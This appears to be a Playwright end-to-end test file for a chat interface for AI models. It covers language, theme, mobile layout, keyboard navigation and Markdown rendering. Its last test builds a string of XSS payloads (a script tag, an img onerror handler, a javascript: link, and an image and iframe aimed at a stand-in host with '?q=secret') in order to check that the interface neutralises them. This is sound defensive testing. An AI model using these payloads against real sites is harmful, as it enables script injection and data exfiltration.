import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest';
import { composer, fits, open, visit, WITHOUT_WORKER } from './browser';

let browser: Browser;
beforeAll(async () => { browser = await open(); });
afterEach(async () => { for (const context of browser.contexts()) await context.close(); });
afterAll(() => browser.close());

const background = (page: Page) => page.locator('#root header').evaluate((e) => {
  const [r = 0, g = 0, b = 0] = getComputedStyle(e.closest('div[style*="display: flex; height"]')!).backgroundColor.match(/\d+/g)!.map(Number);
  return (r + g + b) / 3;
});

describe('the page', () => {
  it.each([['zh-CN', '有什么可以帮您？', '新对话'], ['en-GB', 'What can I do for you?', 'New chat'], ['fr-FR', 'What can I do for you?', 'New chat']])(
    'speaks to a browser in %s', async (locale, welcome, button) => {
      const { page, complaints } = await visit(browser, { locale });

      await page.getByRole('heading', { name: welcome }).waitFor();
      await page.getByRole('button', { name: button }).waitFor();
      expect(await page.locator('html').getAttribute('lang')).toBe(locale === 'zh-CN' ? 'zh-CN' : 'en');
      expect(complaints).toEqual([]);
    });

  it('keeps the language and the appearance that were chosen', async () => {
    const { page } = await visit(browser, { colorScheme: 'light' });

    await page.getByRole('button', { name: 'Switch to Chinese' }).click();
    await page.getByRole('button', { name: '外观' }).click();
    await page.getByRole('menuitem', { name: '深色' }).click();
    await page.reload();

    await page.getByRole('heading', { name: '有什么可以帮您？' }).waitFor();
    expect(await background(page)).toBeLessThan(60);
  });

  it('follows the system into the dark and back', async () => {
    const { page } = await visit(browser, { colorScheme: 'dark' });
    await composer(page).waitFor();

    expect(await background(page)).toBeLessThan(60);
    await page.emulateMedia({ colorScheme: 'light' });
    await expect.poll(() => background(page)).toBeGreaterThan(200);
  });

  it('fits 375 pixels: nothing scrolls sideways, the list is a drawer', async () => {
    const { page } = await visit(browser, { viewport: { width: 375, height: 740 } });
    await composer(page).waitFor();

    await fits(page, 375);
    await page.getByRole('button', { name: 'Open conversations' }).click();
    await page.getByRole('dialog').getByRole('searchbox').waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'hidden' });
  });

  it('is walked with the Tab key: after what is beside the composer first the way past the list, then every control by its name', async () => {
    const { page } = await visit(browser);
    await composer(page).waitFor();
    const walked: { name: string; inMain: boolean }[] = [];

    // from the composer, which has the focus at first, over the end of the page and round again; conversations of other tests are on the way
    for (let i = 0; i < 500; i++) {
      await page.keyboard.press('Tab');
      const control = await page.evaluate(() => {
        const e = document.activeElement as HTMLElement;
        const name = e === document.body ? '' : e.ariaLabel || e.innerText || e.getAttribute('placeholder') || (e as HTMLInputElement).labels?.[0]?.innerText || `nameless ${e.outerHTML.slice(0, 120)}`;
        return { name: name.trim(), inMain: e.closest('main') !== null };
      });
      if (control.name !== '') walked.push(control);
      if (control.name === 'Write a message…') break;
    }

    expect(walked.find((control) => !control.inMain)?.name).toBe('Skip to the conversation');
    expect(walked.map((control) => control.name).filter((n) => n.startsWith('nameless'))).toEqual([]);
    expect(walked.at(-1)?.name).toBe('Write a message…');
  });

  it('shows the way to a model that is not here yet', async () => {
    const { page } = await visit(browser);

    await page.getByRole('combobox', { name: 'Model' }).click();
    await page.locator('.ant-select-item-option').filter({ hasText: '1.5B' }).click();

    await page.getByText('One step before the first chat').waitFor();
    await page.getByRole('button', { name: 'Download' }).waitFor();
    expect(await page.getByRole('button', { name: 'Send' }).isDisabled()).toBe(true);
  });
});

describe('what a model writes', () => {
  const hostile = [
    '# Title', '', '<script>window.broken = 1</script><img src=x onerror="window.broken = 2">', '[click](javascript:window.broken=3)',
    '![secret](https://stranger.example/?q=secret)', '<iframe src="https://stranger.example"></iframe>', '', '```python', 'print("<b>hi</b>")', '```',
  ].join('\n');

  it('is shown as Markdown and never runs, nor fetches anything', async () => {
    const id = '00000000-0000-4000-8000-00000000000a';
    const message = (n: number, role: string, content: string, parentId: string | null) => ({
      id: `m${n}`, parentId, role, content, model: 'x', finishReason: role === 'user' ? null : 'stop', promptTokens: 1, completionTokens: 1,
      tokensPerSecond: 1, durationMs: 1, joules: 1, joulesMeasured: false, sources: [], evidence: [], proof: null, createdAt: '2026-01-01T00:00:00Z',
    });
    const context = await browser.newContext({ locale: 'en-US', ...WITHOUT_WORKER });
    const asked: string[] = [];
    context.on('request', (request) => asked.push(request.url()));
    await context.route(`**/api/conversations/${id}`, (route) => route.fulfill({
      json: { id, title: 't', model: 'default', createdAt: '2026-01-01T00:00:00Z', updatedAt: '2026-01-01T00:00:00Z',
        messages: [message(1, 'user', '<b>bold?</b>', null), message(2, 'assistant', hostile, 'm1')] },
    }));
    const page = await context.newPage();
    await page.goto(`${inject('address')}/c/${id}`);

    await page.getByRole('heading', { name: 'Title' }).waitFor();
    await page.getByRole('button', { name: 'Copy code' }).waitFor();
    await page.getByText('click').click();

    expect(await page.getByText('<b>bold?</b>').count()).toBe(1);
    expect(await page.evaluate(() => (window as { broken?: number }).broken)).toBeUndefined();
    expect(await page.locator('main iframe, main script, main img').count()).toBe(0);
    expect(asked.filter((url) => url.includes('stranger'))).toEqual([]);
    expect(await page.locator('pre code .hljs-string').innerText()).toBe('"<b>hi</b>"');
  });
});
